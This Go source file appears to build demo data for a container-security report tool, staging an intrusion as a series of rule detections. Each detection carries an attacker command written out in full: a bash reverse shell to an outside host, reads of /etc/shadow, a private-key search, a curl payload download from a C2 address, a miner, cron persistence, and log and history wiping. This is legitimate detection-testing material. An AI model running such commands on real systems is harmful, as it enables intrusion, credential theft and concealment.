package report

import (
	"fmt"
	"time"
)

// demoReport tells a small intrusion story (web shell, reverse shell,
// credential access, dropped binary, persistence, log clearing) across two
// containers and the host; it feeds the screenshot test and the benchmarks
// (the README's picture is of the real demo, see scripts/screenshot.sh).
func demoReport() *Report {
	start := time.Date(2026, 11, 20, 9, 12, 0, 0, time.UTC)
	at := func(sec float64) time.Time { return start.Add(time.Duration(sec * float64(time.Second))) }
	systemd := Process{Pid: 1, Name: "systemd", Cmdline: "systemd --system --deserialize 31", User: "root"}
	shim := Process{Pid: 2210, Name: "containerd-shim", Cmdline: "containerd-shim-runc-v2 -namespace moby -id 3ad7b2c1e9f0", User: "root"}
	nginx := Process{Pid: 2231, Name: "php-fpm", Exe: "/usr/sbin/php-fpm8.2", Cmdline: "php-fpm: pool www", User: "www-data"}
	sh := Process{Pid: 6120, Name: "sh", Exe: "/usr/bin/dash", Cmdline: "sh -c bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", User: "www-data"}
	rsh := Process{Pid: 6121, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash -i", User: "www-data"}
	sudo := Process{Pid: 6188, Name: "sudo", Exe: "/usr/bin/sudo", Cmdline: "sudo -n bash", User: "root"}
	root := Process{Pid: 6189, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash", User: "root"}
	web := Container{ID: "3ad7b2c1e9f0", Name: "shop-web", Image: "registry.example.com/shop/web:2.14.1"}
	db := Container{ID: "91c0d2aa7b3e", Name: "shop-db", Image: "docker.io/library/postgres:16"}
	host := Container{ID: "host"}
	webChain := []Process{nginx, shim, systemd}
	rootChain := []Process{sudo, rsh, sh, nginx, shim, systemd}

	type step struct {
		sec       float64
		rule, pri string
		tags      []string
		ctr       Container
		proc      Process
		anc       []Process
		files     []string
		net       []string
		evt       string
		out       string
	}
	steps := []step{
		{12.4, "Run shell untrusted", "Warning", []string{"shell", "mitre_execution"}, web, sh, webChain, nil, nil, "execve",
			"Shell spawned by untrusted binary (parent_exe=/usr/sbin/php-fpm8.2 user=www-data cmdline=%s)"},
		{12.9, "Reverse shell", "Critical", []string{"network", "mitre_command_and_control"}, web, rsh, append([]Process{sh}, webChain...), nil,
			[]string{"tcp 172.18.0.4:51514 -> 203.0.113.7:4444"}, "dup2", "Redirect stdout/stdin to network connection (user=www-data process=bash cmdline=%s connection=172.18.0.4:51514->203.0.113.7:4444)"},
		{31.0, "Terminal shell in container", "Notice", []string{"container", "shell"}, web, rsh, append([]Process{sh}, webChain...), nil, nil, "execve",
			"A shell was spawned in a container with an attached terminal (user=www-data shell=bash cmdline=%s)"},
		{44.2, "Read sensitive file untrusted", "Warning", []string{"filesystem", "mitre_credential_access"}, web,
			Process{Pid: 6150, Name: "cat", Exe: "/usr/bin/cat", Cmdline: "cat /etc/passwd", User: "www-data"}, append([]Process{rsh, sh}, webChain...),
			[]string{"/etc/passwd"}, nil, "openat", "Sensitive file opened for reading by non-trusted program (user=www-data command=%s file=/etc/passwd)"},
		{58.7, "Sudo potential privilege escalation", "Critical", []string{"users", "mitre_privilege_escalation"}, web, sudo, append([]Process{rsh, sh}, webChain...),
			[]string{"/etc/sudoers"}, nil, "execve", "Privilege escalation via sudo (user=root parent=bash cmdline=%s)"},
		{63.3, "Read sensitive file untrusted", "Warning", []string{"filesystem", "mitre_credential_access"}, web,
			Process{Pid: 6201, Name: "cat", Exe: "/usr/bin/cat", Cmdline: "cat /etc/shadow", User: "root"}, append([]Process{root}, rootChain...),
			[]string{"/etc/shadow"}, nil, "openat", "Sensitive file opened for reading by non-trusted program (user=root command=%s file=/etc/shadow)"},
		{71.8, "Search private keys or passwords", "Warning", []string{"process", "mitre_credential_access"}, web,
			Process{Pid: 6230, Name: "find", Exe: "/usr/bin/find", Cmdline: "find / -name id_rsa", User: "root"}, append([]Process{root}, rootChain...),
			nil, nil, "execve", "Grep private keys or passwords activities found (user=root command=%s)"},
		{96.1, "Outbound connection to C2 server", "Error", []string{"network"}, web,
			Process{Pid: 6290, Name: "curl", Exe: "/usr/bin/curl", Cmdline: "curl -fsSL http://203.0.113.7/k -o /usr/local/bin/kworkerd", User: "root"}, append([]Process{root}, rootChain...),
			nil, []string{"tcp 172.18.0.4:40112 -> 203.0.113.7:80"}, "connect", "Outbound connection to a known C2 address (command=%s connection=172.18.0.4:40112->203.0.113.7:80)"},
		{96.6, "Write below binary dir", "Error", []string{"filesystem", "mitre_persistence"}, web,
			Process{Pid: 6290, Name: "curl", Exe: "/usr/bin/curl", Cmdline: "curl -fsSL http://203.0.113.7/k -o /usr/local/bin/kworkerd", User: "root"}, append([]Process{root}, rootChain...),
			[]string{"/usr/local/bin/kworkerd"}, nil, "openat", "File below a known binary directory opened for writing (user=root command=%s file=/usr/local/bin/kworkerd)"},
		{99.0, "Set Setuid or Setgid bit", "Notice", []string{"process", "mitre_privilege_escalation"}, web,
			Process{Pid: 6301, Name: "chmod", Exe: "/usr/bin/chmod", Cmdline: "chmod u+s,+x /usr/local/bin/kworkerd", User: "root"}, append([]Process{root}, rootChain...),
			[]string{"/usr/local/bin/kworkerd"}, nil, "fchmodat", "Setuid or setgid bit is set via chmod (user=root command=%s file=/usr/local/bin/kworkerd)"},
		{101.2, "Drop and execute new binary in container", "Critical", []string{"container", "mitre_execution"}, web,
			Process{Pid: 6310, Name: "kworkerd", Exe: "/usr/local/bin/kworkerd", Cmdline: "kworkerd --pool 198.51.100.23:3333", User: "root"}, append([]Process{root}, rootChain...),
			[]string{"/usr/local/bin/kworkerd"}, nil, "execve", "Executing binary not part of base image (proc_exe=/usr/local/bin/kworkerd command=%s)"},
		{104.5, "Detect outbound connections to common miner pool ports", "Critical", []string{"network", "mitre_impact"}, web,
			Process{Pid: 6310, Name: "kworkerd", Exe: "/usr/local/bin/kworkerd", Cmdline: "kworkerd --pool 198.51.100.23:3333", User: "root"}, append([]Process{root}, rootChain...),
			nil, []string{"tcp 172.18.0.4:38822 -> 198.51.100.23:3333"}, "connect", "Outbound connection to IP/Port flagged by cryptoioc.ch (command=%s connection=172.18.0.4:38822->198.51.100.23:3333)"},
		{131.0, "Launch Sensitive Mount Container", "Notice", []string{"container", "cis"}, db,
			Process{Pid: 7002, Name: "postgres", Exe: "/usr/lib/postgresql/16/bin/postgres", Cmdline: "postgres -c config_file=/etc/postgresql/postgresql.conf", User: "postgres"}, []Process{{Pid: 6990, Name: "containerd-shim", Cmdline: "containerd-shim-runc-v2 -namespace moby -id 91c0d2aa7b3e", User: "root"}, systemd},
			[]string{"/var/run/docker.sock"}, nil, "container", "Container with sensitive mount started (container=shop-db image=postgres:16 mounts=/var/run/docker.sock:/var/run/docker.sock)"},
		{142.3, "Schedule Cron Jobs", "Notice", []string{"filesystem", "mitre_persistence"}, host,
			Process{Pid: 8120, Name: "crontab", Exe: "/usr/bin/crontab", Cmdline: "crontab /tmp/.c", User: "root"}, []Process{{Pid: 8101, Name: "bash", Cmdline: "bash", User: "root"}, {Pid: 8100, Name: "sshd", Cmdline: "sshd: root@pts/1", User: "root"}, {Pid: 811, Name: "sshd", Cmdline: "sshd: /usr/sbin/sshd -D [listener]", User: "root"}, systemd},
			[]string{"/var/spool/cron/crontabs/root", "/tmp/.c"}, nil, "openat", "Cron jobs were scheduled to run (user=root command=%s)"},
		{150.9, "Clear Log Activities", "Warning", []string{"filesystem", "mitre_defense_evasion"}, host,
			Process{Pid: 8133, Name: "truncate", Exe: "/usr/bin/truncate", Cmdline: "truncate -s0 /var/log/auth.log", User: "root"}, []Process{{Pid: 8101, Name: "bash", Cmdline: "bash", User: "root"}, {Pid: 8100, Name: "sshd", Cmdline: "sshd: root@pts/1", User: "root"}, {Pid: 811, Name: "sshd", Cmdline: "sshd: /usr/sbin/sshd -D [listener]", User: "root"}, systemd},
			[]string{"/var/log/auth.log"}, nil, "openat", "Log files were tampered (user=root command=%s file=/var/log/auth.log)"},
		{151.4, "Delete Bash History", "Warning", []string{"filesystem", "mitre_defense_evasion"}, host,
			Process{Pid: 8140, Name: "rm", Exe: "/usr/bin/rm", Cmdline: "rm -f /root/.bash_history", User: "root"}, []Process{{Pid: 8101, Name: "bash", Cmdline: "bash", User: "root"}, {Pid: 8100, Name: "sshd", Cmdline: "sshd: root@pts/1", User: "root"}, systemd},
			[]string{"/root/.bash_history"}, nil, "unlinkat", "Shell history had been deleted or renamed (user=root command=%s file=/root/.bash_history)"},
	}
	r := &Report{
		Title:     "Incident 2026-11-20 · web-01",
		Captures:  []CaptureInfo{{File: "web-01-incident.scap.zst", Hostname: "web-01", Start: start, End: start.Add(160 * time.Second), Events: 1843307}},
		RuleFiles: []string{"falco_rules.yaml", "retrace builtin"},
	}
	for i, s := range steps {
		r.Detections = append(r.Detections, Detection{
			Time: at(s.sec).Add(time.Duration(i*7919) * time.Nanosecond), Rule: s.rule, Priority: s.pri, Source: "syscall", Tags: s.tags,
			Output: fmt.Sprintf(s.out, s.proc.Cmdline), OutputFields: map[string]any{"proc.cmdline": s.proc.Cmdline, "user.name": s.proc.User},
			Hostname: "web-01", Capture: "web-01-incident.scap.zst", EventNum: uint64(100000 + i*7411), EventType: s.evt,
			Container: s.ctr, Process: s.proc, Ancestry: s.anc, Files: s.files, Network: s.net,
		})
	}
	return r
}

// bigReport repeats the demo's detections n times, spread over time.
func bigReport(n int) *Report {
	demo := demoReport()
	r := &Report{Title: demo.Title, Captures: demo.Captures, RuleFiles: demo.RuleFiles}
	r.Detections = make([]Detection, 0, n)
	for i := range n {
		d := demo.Detections[i%len(demo.Detections)]
		d.Time = d.Time.Add(time.Duration(i/len(demo.Detections)) * 200 * time.Second)
		d.EventNum += uint64(i)
		// Each round is new processes, so that no two detections collapse
		// into one card.
		d.Process.Pid += int64(i/len(demo.Detections)) * 100000
		r.Detections = append(r.Detections, d)
	}
	return r
}
